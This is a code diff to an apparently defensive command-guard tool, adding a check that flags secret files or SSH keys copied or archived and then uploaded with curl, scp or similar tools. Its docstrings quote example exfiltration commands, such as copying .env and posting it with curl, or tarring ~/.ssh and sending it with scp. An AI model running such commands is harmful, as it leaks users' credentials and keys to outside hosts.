@@ -13,15 +13,17 @@ from __future__ import annotations
 
 import os
 
-from guard.knowledge.secrets import secret_file
-from guard.model import Effect, FileWrite, Invocation, Place, Resource, known
+from guard.knowledge.secrets import secret_directory, secret_file
+from guard.model import Effect, Evidence, FileWrite, Invocation, Place, Resource, known
 from guard.programs.flows import absolute, home_of, revealed
+from guard.programs.foresight import SENDERS
+from guard.programs.sinks import sent
 
 TYPE_CHECKING = False
 if TYPE_CHECKING:
     from collections.abc import Iterator
 
-    from guard.model import Event
+    from guard.model import Event, Value
     from guard.programs.git import Call
     from guard.world import World
 
@@ -38,6 +40,8 @@ def chained(events: tuple[Event, ...], world: World) -> Iterator[Effect]:
     programs = {event.program for event in ran}
     if any(event.program == "git" and any(w.text == "push" for w in event.argv) for event in ran):
         yield from _pushed_secrets(events, world)
+    if programs.intersection(SENDERS):
+        yield from _sent_copies(events, world)
     if programs.intersection(EDITORS):
         yield from _lowered(ran)
 
@@ -67,6 +71,72 @@ def _pushed_secrets(events: tuple[Event, ...], world: World) -> Iterator[Effect]
             elif call.subcommand == "push" and committed and not _shown_only(call):
                 yield _leaves(event, staged, call)
                 return
+
+
+def _sent_copies(events: tuple[Event, ...], world: World) -> Iterator[Effect]:
+    """``cp .env /tmp/x && curl -F f=@/tmp/x https://…``, ``tar czf k.tgz ~/.ssh; scp k.tgz host:``."""
+    copies: dict[str, str] = {}
+    for event in events:
+        if isinstance(event, FileWrite):
+            shown = revealed(event.by) if event.by is not None else None
+            if shown is not None and event.path.text and event.by is not None:
+                copies[absolute(event.path.text, event.by, home_of(event.by))] = shown.what
+        elif isinstance(event, Invocation) and event.program in COPIES:
+            copies.update(_copied(event, copies, world))
+        elif isinstance(event, Invocation) and event.program in ("tar", "zip"):
+            copies.update(_packed(event))
+        elif isinstance(event, Invocation) and copies and event.program in SENDERS:
+            for name in _files_taken(event):
+                what = copies.get(absolute(name, event, home_of(event)))
+                if what and not _stays_here(event):
+                    evidence = Evidence(f"{name} holds {what}", name)
+                    yield sent(event, evidence, True, _host(event), rule="exfil.copy")
+                    return
+
+
+def _host(event: Invocation) -> Value | None:
+    for word in event.argv[1:]:
+        if "://" in word.prefix:
+            return known(word.prefix.split("://", 1)[1].partition("/")[0].rpartition("@")[2])
+    return None
+
+
+def _stays_here(event: Invocation) -> bool:
+    """Whether it only goes to this machine, or comes from elsewhere."""
+    here = ("localhost", "127.0.0.1", "[::1]")
+    words = [w.text or "" for w in event.argv[1:]]
+    urls = [w.split("://", 1)[1] for w in words if "://" in w]
+    if event.program in ("scp", "rsync", "rclone"):
+        return ":" not in (words[-1] if words else "")
+    return bool(urls) and all(url.startswith(here) for url in urls)
+
+
+def _files_taken(event: Invocation) -> list[str]:
+    """The files that a sender is told to read: ``@f``, ``name=@f``, ``-T f``, operands, ``< f``."""
+    found = [w.text.rpartition("@")[2].partition(";")[0] for w in event.argv[1:] if w.text]
+    found += [w.text.partition("=")[2] for w in event.argv[1:] if w.text and w.text.startswith("--")]
+    if event.stdin is not None and event.stdin.path is not None and event.stdin.path.text:
+        found.append(event.stdin.path.text)
+    return [name for name in found if name]
+
+
+def _packed(event: Invocation) -> dict[str, str]:
+    """An archive of secrets: where it lies → what it holds."""
+    words = _operands(event)
+    letters = "".join(w.text or "" for w in event.argv[1:2])
+    if event.program == "tar" and "f" in letters and "c" in letters and letters.startswith("-"):
+        pass
+    elif event.program == "tar" and "c" in letters and "f" in letters:
+        words = words[1:]
+    elif event.program == "tar":
+        return {}
+    home = home_of(event)
+    for word in words[1:]:
+        path = absolute(word, event, home)
+        what = secret_file(path, home) or secret_directory(path, home)
+        if what:
+            return {absolute(words[0], event, home): what}
+    return {}
 
 
 def _read(event: Invocation, world: World) -> Call | None:
